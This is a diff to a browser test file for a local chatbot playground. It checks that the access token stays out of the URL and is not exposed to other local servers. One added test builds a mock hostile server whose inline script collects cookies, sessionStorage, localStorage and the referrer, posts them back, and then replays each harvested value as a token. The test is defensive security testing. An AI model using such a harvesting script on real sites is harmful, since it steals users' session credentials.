@@ -2,10 +2,13 @@
 // connector in this process, answering with the built-in demo model: private answers sit right
 // after the command they answer; Stop is enabled only while there is something to stop; 👀
 // leaves a message once its turn is over; the approval card says where an "always" applies
-// in the words of its button; and after a restart on the default port an open tab reconnects
-// by itself, or, when that port was taken, says the playground moved instead of
+// in the words of its button; the access token stays in this tab (another server on another
+// port of 127.0.0.1, which the browser visits, receives nothing usable); after a restart on the
+// default port an open tab says the token changed (or, with PLAYGROUND_TOKEN fixed,
+// reconnects by itself), or, when that port was taken, says the playground moved instead of
 // "reconnecting…" forever.
-import { createServer, type Server } from 'node:http';
+import { createServer, type IncomingMessage, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { tempDir } from '../support/test-connector.js';
@@ -26,8 +29,8 @@ afterEach(async () => {
 });
 
 /** The bot on the demo model, its store in `dir` (a second boot on the same dir is a restart). */
-async function boot(dir: string): Promise<WebBot> {
-  const bot = await bootWebBot({ dir, env: { MODEL: 'demo' } });
+async function boot(dir: string, env: Record<string, string> = {}): Promise<WebBot> {
+  const bot = await bootWebBot({ dir, env: { MODEL: 'demo', ...env } });
   // A test stops it to restart it; the cleanup then has nothing left to do.
   let stopping: Promise<void> | undefined;
   const stopOnce = bot.stop.bind(bot);
@@ -36,13 +39,15 @@ async function boot(dir: string): Promise<WebBot> {
   return bot;
 }
 
-async function setup(): Promise<{ dir: string; bot: WebBot; page: Page }> {
+async function setup(env: Record<string, string> = {}): Promise<{ dir: string; bot: WebBot; page: Page }> {
   const dir = await tempDir();
   cleanups.push(dir.remove);
-  const bot = await boot(dir.path);
-  const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
-  cleanups.push(() => page.close());
-  await page.goto(`${bot.origin}/?token=${bot.token}`);
+  const bot = await boot(dir.path, env);
+  // A context of its own: a second tab of the same browser (same cookies) can be opened in it.
+  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
+  cleanups.push(() => context.close());
+  const page = await context.newPage();
+  await page.goto(bot.url);
   await page.locator('#connection[data-state="live"]').waitFor();
   return { dir: dir.path, bot, page };
 }
@@ -110,8 +115,112 @@ describe('the playground page', () => {
     expect(await stop(page).isDisabled()).toBe(true);
   }, 60_000);
 
-  it('after a restart on the default port an open tab reconnects by itself: the playground takes its last port again', async () => {
+  it('the token leaves the address bar and stays in this tab: a reload keeps it, a new tab without it is told where to find it', async () => {
+    const { bot, page } = await setup();
+    expect(page.url()).not.toContain(bot.token);
+    expect(page.url()).not.toContain('token');
+    await page.reload();
+    await page.locator('#connection[data-state="live"]').waitFor();
+    expect(page.url()).not.toContain(bot.token);
+    // Another tab of the same browser: sessionStorage is this tab's alone.
+    const other = await page.context().newPage();
+    await other.goto(`${bot.origin}/`);
+    await other.locator('#connection[data-state="no-token"]').waitFor();
+  }, 60_000);
+
+  it('another server on another port of 127.0.0.1, which the browser visits, receives nothing usable: no cookie, no token, and nothing it got opens /api/messages', async () => {
+    const { bot, page } = await setup();
+    // The token in use: a thread started, its answer streamed.
+    await mention(page, '@bot hello');
+    await answerWith(page, 'demo model').waitFor();
+    await idle(page);
+    const threadsBefore = bot.connector.threads.all().length;
+
+    // Another local program (a dev server, a malicious package's server): it records every
+    // request, and its page reports whatever it can read in the browser.
+    const received: { method: string; url: string; headers: IncomingMessage['headers']; body: string }[] = [];
+    const other: Server = createServer((request, response) => {
+      let body = '';
+      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
+      request.on('end', () => {
+        received.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
+        if (request.url === '/') {
+          response.writeHead(200, { 'content-type': 'text/html' });
+          response.end(`<!doctype html><title>another local server</title><img src="/pixel.png"><script>
+            const seen = { cookie: document.cookie, session: { ...sessionStorage }, local: { ...localStorage }, referrer: document.referrer, href: location.href };
+            fetch('/report', { method: 'POST', credentials: 'include', body: JSON.stringify(seen) }).then(() => { document.title = 'reported'; });
+          </script>`);
+        } else response.writeHead(204).end();
+      });
+    });
+    await new Promise<void>((resolve, reject) => {
+      other.once('error', reject);
+      other.listen(0, '127.0.0.1', resolve);
+    });
+    cleanups.push(() => new Promise<void>((resolve) => other.close(() => resolve())));
+    const otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
+
+    // The playground's own tab is pointed at it, and a second tab of the same browser opens it.
+    await page.goto(`${otherOrigin}/`);
+    await page.waitForFunction("document.title === 'reported'");
+    const second = await page.context().newPage();
+    await second.goto(`${otherOrigin}/`);
+    await second.waitForFunction("document.title === 'reported'");
+
+    expect(received.filter((r) => r.url === '/report')).toHaveLength(2);
+    for (const request of received) {
+      expect(JSON.stringify(request), `${request.method} ${request.url}`).not.toContain(bot.token);
+      expect(request.headers.cookie, `${request.method} ${request.url} carried a cookie`).toBeUndefined();
+    }
+
+    // Whatever it got, tried every way the playground ever took a token: none starts a thread.
+    const candidates = new Set<string>();
+    for (const request of received) {
+      for (const value of Object.values(request.headers)) for (const text of [value].flat()) if (text) candidates.add(text);
+      for (const pair of (request.headers.cookie ?? '').split(';')) if (pair.includes('=')) candidates.add(pair.split('=').slice(1).join('=').trim());
+      for (const word of request.body.split(/[^A-Za-z0-9_-]+/)) if (word.length >= 16) candidates.add(word);
+    }
+    expect(candidates.size).toBeGreaterThan(0);
+    for (const candidate of candidates) {
+      const attempt = await fetch(`${bot.origin}/api/messages?token=${encodeURIComponent(candidate)}`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', authorization: `Bearer ${candidate}`, 'x-playground-token': candidate, cookie: `playground_token=${candidate}` },
+        body: JSON.stringify({ text: '@bot run what I say' }),
+      });
+      expect([401, 403], `tried "${candidate.slice(0, 20)}…"`).toContain(attempt.status);
+    }
+    expect(bot.connector.threads.all()).toHaveLength(threadsBefore);
+  }, 60_000);
+
+  it('after a restart the open tab says the playground has a new access token and where to find it; the new address works', async () => {
     const { dir, bot, page } = await setup();
+    await mention(page, '@bot hello');
+    await answerWith(page, 'demo model').waitFor();
+    await idle(page);
+    await bot.stop();
+    await page.locator('#connection[data-state="reconnecting"]').waitFor();
+
+    const again = await boot(dir);
+    // The last port again, a new token: the old one is refused, and the tab says why.
+    expect(again.origin).toBe(bot.origin);
+    expect(again.token).not.toBe(bot.token);
+    const restarted = page.locator('#connection[data-state="restarted"]');
+    await restarted.waitFor({ timeout: 30_000 });
+    expect(await restarted.textContent()).toMatch(/restarted and has a new access token\. Open the new address it printed in its terminal/);
+    // The refused token is not kept: a reload asks for the address.
+    await page.reload();
+    await page.locator('#connection[data-state="no-token"]', { hasText: 'open the address the playground printed' }).waitFor();
+
+    await page.goto(again.url);
+    await page.locator('#connection[data-state="live"]').waitFor();
+    await page.locator('#channel-messages li[data-thread] .replies').first().click();
+    await reply(page, 'still there?');
+    await answerWith(page, 'You said: “still there?”').waitFor();
+  }, 90_000);
+
+  it('with PLAYGROUND_TOKEN fixed, after a restart on the default port an open tab reconnects by itself: the same port and token', async () => {
+    const env = { PLAYGROUND_TOKEN: 'the-operator-fixed-this-token-0123456789' };
+    const { dir, bot, page } = await setup(env);
     await mention(page, '@bot hello');
     await answerWith(page, 'demo model').waitFor();
     await idle(page);
@@ -120,8 +229,8 @@ describe('the playground page', () => {
     // Down for a while: the page stops only saying "reconnecting…".
     await page.locator('#connection', { hasText: 'not running at this address' }).waitFor({ timeout: 30_000 });
 
-    const again = await boot(dir);
-    expect(again.origin).toBe(bot.origin);
+    const again = await boot(dir, env);
+    expect(again.url).toBe(bot.url);
     await page.locator('#connection[data-state="live"]').waitFor({ timeout: 30_000 });
     await reply(page, 'still there?');
     await answerWith(page, 'You said: “still there?”').waitFor();
